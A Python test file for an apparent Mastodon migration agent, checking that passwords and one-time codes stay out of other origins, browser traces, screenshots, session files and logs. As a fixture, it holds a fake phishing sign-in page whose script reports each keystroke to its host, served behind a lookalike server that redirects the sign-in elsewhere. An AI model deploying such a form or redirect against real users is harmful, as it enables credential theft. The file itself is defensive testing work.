"""Secrets: where a password could slip out, it does not.

- A sign-in page that redirects to another origin gets nothing typed in (not even the e-mail):
  UnsafeOrigin, exit 3, and the other site saw no form submitted and no keystroke.
- A traced browser with two accounts pauses its trace around each account's secrets (the traced
  migration of test_faults, with two-factor sign-in and a second sign-in after an expired session,
  is scanned by the autouse check like every run).
- A secret typed into a password or one-time-code field (also one shown in clear) is never legible
  in a screenshot: the masked pictures of two different secrets are identical, pixel for pixel.
- Saved sessions are owner-only.
- The scanner itself finds what it looks for (in logs, zipped traces, PNG metadata, terminal
  output) and flags loose permissions, so a clean scan means something.
"""
from __future__ import annotations

import json
import os
import stat
import struct
import threading
import time
import zipfile
import zlib
from pathlib import Path

import pyotp
import pytest

from fakes import FakeServer
from harness import SMALL_SEED, run_agent
from secrets_scan import PNG_SIGNATURE, leaks, otp_codes
from servers import changes, snapshot

pytestmark = pytest.mark.fixture_seed(**SMALL_SEED)

# A sign-in form that reports every keystroke and every submission to the site that serves it.
EVIL_FORM = b"""<!doctype html><html><body>
<form id="new_user" action="/auth/sign_in" method="post">
  <input type="email" name="user[email]" id="user_email">
  <input type="password" name="user[password]" id="user_password">
  <button type="submit">Log in</button>
</form>
<script>
  for (const input of document.querySelectorAll('input')) {
    input.addEventListener('input', () => fetch('/typed?field=' + encodeURIComponent(input.name), {method: 'POST'}));
  }
</script></body></html>"""


def mastodon_lookalike(elsewhere: FakeServer, sign_in_path: str) -> FakeServer:
    """Answers like a Mastodon server until the sign-in, which it sends to another origin."""
    instance = json.dumps({"uri": "old.test", "domain": "old.test", "version": "4.3.0"}).encode()
    account = json.dumps({"id": "1", "username": "alice", "acct": "alice"}).encode()
    return FakeServer(routes={
        "/api/v1/instance": lambda fake, r: (200, {"content-type": "application/json"}, instance),
        "/api/v1/accounts/lookup": lambda fake, r: (200, {"content-type": "application/json"}, account),
        "/auth/edit": lambda fake, r: (302, {"location": "/auth/sign_in"}, b""),
        "/auth/sign_in": lambda fake, r: (302, {"location": elsewhere.url + sign_in_path}, b""),
    })


@pytest.mark.parametrize("sign_in_path", ["/auth/sign_in", "/users/sign_in"],
                         ids=["same path elsewhere", "another path elsewhere"])
def test_no_credential_is_typed_into_another_origin(mastodon, tmp_path, sign_in_path, figures):
    elsewhere = FakeServer(host="127.0.0.4", default=lambda fake, r: (200, {}, EVIL_FORM))
    lookalike = mastodon_lookalike(elsewhere, sign_in_path)
    before = snapshot(mastodon)
    try:
        result = run_agent(mastodon, tmp_path / "run", "migrate", MASTOMOVE_OLD_URL=lookalike.url)
    finally:
        lookalike.close()
        elsewhere.close()
    figures.bad_input(refused_cleanly=result.code == 3)
    assert result.code == 3, result.output[-3000:]
    lines = [line for line in result.output.splitlines() if "which is not" in line]
    assert len(lines) == 1 and elsewhere.url.split("//")[1] in lines[0], result.output[-3000:]
    assert any(r.method == "GET" for r in elsewhere.requests), "the redirect was never followed"
    assert [r for r in elsewhere.requests if r.method != "GET"] == [], \
        f"the other site received {[(r.method, r.path) for r in elsewhere.requests if r.method != 'GET']}"
    assert not changes(before, snapshot(mastodon))
    assert result.state["outcome"]["status"] == "stopped"


def test_a_traced_context_pauses_around_every_accounts_secrets(browser, tmp_path):
    """Both accounts' browser contexts are traced; the secret typed into the first one (opened
    before the second) stays out of its trace (the run folder's traces are what people share)."""
    from mastomove.agent.evidence import Evidence

    evidence = Evidence(tmp_path / "run", screenshots=False)
    contexts = {}
    for role in ("old", "new"):
        context = browser.new_context()
        context.tracing.start(name=role, screenshots=True, snapshots=False, sources=False)
        evidence.watch_tracing(context)
        contexts[role] = context
    secret = "hunter2-" + pyotp.random_base32()[:12]
    for role, context in contexts.items():
        page = context.new_page()
        page.set_content('<form><input name="q"><input type="password" name="p"><button>go</button></form>')
        page.fill("input[name=q]", f"marker-{role}")  # what the trace does record
        with evidence.secret_entry(page):
            page.fill("input[name=p]", secret)
        page.fill("input[name=p]", "")  # a later action: its snapshot would hold the field's value
        context.tracing.stop(path=str(evidence.path("trace", f"{role}.zip")))
        context.close()
    evidence.close()
    found = leaks(tmp_path / "run", "", passwords=[secret])
    assert [f for f in found if f.what == "password"] == [], found
    # the traces are there and record the typing around the secret: a clean scan means something
    traces = sorted((tmp_path / "run" / "trace").glob("*.zip"))
    assert {"old.zip", "new.zip"} <= {t.name for t in traces}, traces
    recorded = b"".join(zipfile.ZipFile(t).read(n) for t in traces for n in zipfile.ZipFile(t).namelist())
    assert b"marker-old" in recorded and b"marker-new" in recorded


# Secret fields of every kind the masks know, and one the page's own mask names (an e-mail).
SECRET_FIELDS_FORM = """<!doctype html><html><body style="font: 18px sans-serif; margin: 40px">
<form>
  <p><input name="q" size="30"> a field typed into, not secret</p>
  <p><input name="email" size="30"> masked by the page object</p>
  <p><input type="password" name="user[password]" size="30"> a password field</p>
  <p><input type="text" name="user[password]" size="30"> a password shown in clear ("show password")</p>
  <p><input type="text" name="account_migration[current_password]" size="30"> the same, by name only</p>
  <p><input type="text" name="user[otp_attempt]" autocomplete="one-time-code" size="30"> a one-time code</p>
</form></body></html>"""


# What Mastodon sends: no inline styles or scripts but its own (an injected <style> is refused).
STRICT_CSP = "default-src 'none'; style-src 'self'; script-src 'self'; img-src 'self' data:"


@pytest.mark.parametrize("policy, mask_kind", [(None, "css"), (STRICT_CSP, "css"), (None, "locators")],
                         ids=["no CSP", "a strict Content-Security-Policy", "a mask that is no plain CSS"])
def test_a_typed_secret_is_never_legible_in_a_screenshot(browser, tmp_path, policy, mask_kind):
    """The agent's screenshots (Chromium's own capture with the mask put in for the shot) of a
    form with each kind of secret field, once with one secret typed in, once with another of the
    same length: the pictures are identical, so nothing of either secret is in them. Without the
    mask the same two pictures differ (the comparison can fail). Also under a server's strict
    Content-Security-Policy, and with a page mask given as a locator that is not plain CSS (the
    elements are then found through Playwright's locators)."""
    from mastomove.agent.evidence import Evidence

    evidence = Evidence(tmp_path / "run")
    page = browser.new_page(viewport={"width": 900, "height": 600})
    headers = {"content-type": "text/html", **({"content-security-policy": policy} if policy else {})}
    page.route("http://form.test/", lambda route: route.fulfill(status=200, headers=headers, body=SECRET_FIELDS_FORM))
    page.goto("http://form.test/")
    page.fill("input[name=q]", "visible text")
    page.fill("input[name=email]", "alice@old.test")
    raw = page.context.new_cdp_session(page)
    masked, unmasked = [], []
    secrets = ["hunter2-correct-horse", "WWWWWWWWWWWWWWWWWWWWW"]
    for secret in secrets:
        for field in page.locator("input[name*='password'], input[name*='otp']").all():
            field.fill(secret)  # no secret_entry: the screenshot's own mask must hold on its own
        page.evaluate("() => { document.activeElement.blur(); "
                      "return new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done))); }")
        unmasked.append(raw.send("Page.captureScreenshot", {"format": "png"})["data"])
        email = page.locator("input[name=email]") if mask_kind == "css" else page.get_by_role("textbox").nth(1)
        shot = evidence.screenshot(page, "form", mask=[email])
        masked.append(shot.read_bytes())
    page.fill("input[name=email]", "zzzzz@zzz.test")  # the page's own mask hides it as well
    page.evaluate("() => { document.activeElement.blur(); "
                  "return new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done))); }")
    masked.append(evidence.screenshot(page, "form", mask=[email]).read_bytes())
    evidence.close()
    assert unmasked[0] != unmasked[1], "the secrets do not show even unmasked: this test proves nothing"
    assert masked[0] == masked[1] == masked[2], "a typed secret (or the masked e-mail) changed the screenshot"
    assert evidence.camera.fallbacks == 0, "Chromium's capture was not used"
    assert evidence.camera.masked_by[mask_kind] == 3, evidence.camera.masked_by
    assert len(list((tmp_path / "run" / "screenshots").glob("00[123]-*.png"))) == 3
    assert not leaks(tmp_path / "run", "", passwords=secrets)


def test_saved_sessions_are_owner_only(browser_config, tmp_path):
    from mastomove.agent.browser import BrowserSession

    target = tmp_path / "sessions" / "new-alice@new.test.json"

    def keep_a_session() -> None:  # in a thread of its own: Playwright's sync API is per thread
        session = BrowserSession(browser_config, run_dir=tmp_path / "run", session_files={})
        try:
            session.page("new").set_content("<p>signed in</p>")
            session.save_session("new", target)
        finally:
            session.close()

    worker = threading.Thread(target=keep_a_session)
    worker.start()
    worker.join(120)
    assert target.is_file(), "no session was saved"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert stat.S_IMODE(target.parent.stat().st_mode) & 0o077 == 0
    assert not leaks(tmp_path / "run", "", passwords=["x" * 8], session_dir=target.parent)


def _png_with_text(text: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\x00\x00")
    return PNG_SIGNATURE + chunk(b"IHDR", header) + chunk(b"tEXt", b"Comment\x00" + text) + \
        chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def test_the_scanner_finds_what_it_looks_for(tmp_path):
    password, otp_secret = "s3cret-Passw0rd", pyotp.random_base32()
    now = pyotp.TOTP(otp_secret).now()
    assert now in otp_codes([otp_secret], (time.time(), time.time()))
    planted = {
        "log.jsonl": json.dumps({"event": "sign_in", "value": password}).encode(),
        "state.json": json.dumps({"otp": otp_secret.lower()}).encode(),
        "summary.md": f"code {now} accepted".encode(),
        "screenshots/001-sign-in.png": _png_with_text(password.encode()),
    }
    run_dir = tmp_path / "run"
    for name, content in planted.items():
        (run_dir / name).parent.mkdir(parents=True, exist_ok=True)
        (run_dir / name).write_bytes(content)
    (run_dir / "trace").mkdir()
    with zipfile.ZipFile(run_dir / "trace" / "old.zip", "w") as archive:
        archive.writestr("trace.trace", json.dumps({"method": "fill", "params": {"value": password}}))
    os.chmod(run_dir, 0o755)
    found = {(Path(f.where.split("!")[0]).name, f.what)
             for f in leaks(run_dir, f"typed {password}", passwords=[password], otp_secrets=[otp_secret],
                            between=(time.time() - 5, time.time()))}
    assert ("log.jsonl", "password") in found
    assert ("state.json", "OTP secret") in found
    assert ("summary.md", "OTP code") in found
    assert ("001-sign-in.png", "password") in found
    assert ("old.zip", "password") in found
    assert ("terminal output", "password") in found
    assert any(what == "permissions" for _, what in found)
    assert ("summary.md (mode 644)", "permissions") in found  # a file readable by others, not only a folder
    # and a clean folder is clean: pixels and timestamps are not codes
    clean = tmp_path / "clean"
    clean.mkdir(mode=0o700)
    (clean / "log.jsonl").write_text(json.dumps({"timestamp": f"2026-01-01T00:00:00.{now}Z", "id": f"1{now}7",
                                                 "startTime": float(f"{now}.25"), "duration_ms": int(now)}))
    (clean / "log.jsonl").chmod(0o600)
    assert leaks(clean, "", passwords=[password], otp_secrets=[otp_secret],
                 between=(time.time() - 5, time.time())) == []
